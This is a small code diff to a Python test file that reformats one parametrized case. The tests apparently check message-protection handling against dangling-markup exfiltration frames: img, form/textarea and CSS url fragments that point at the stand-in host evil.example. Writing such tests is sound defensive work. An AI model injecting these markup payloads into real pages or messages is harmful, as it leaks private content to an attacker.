@@ -241,7 +241,9 @@ def test_protection_inside_of_a_message_is_named_and_protects_nothing(
     "frame",
     [
         pytest.param([b'<img src="http://evil.example/', b'">'], id="img"),
-        pytest.param([b'<form action="http://evil.example/"><textarea>', b"</textarea>"], id="form"),
+        pytest.param(
+            [b'<form action="http://evil.example/"><textarea>', b"</textarea>"], id="form"
+        ),
         pytest.param([b"<style>*{background:url(http://evil.example/", b")}</style>"], id="css"),
     ],
 )
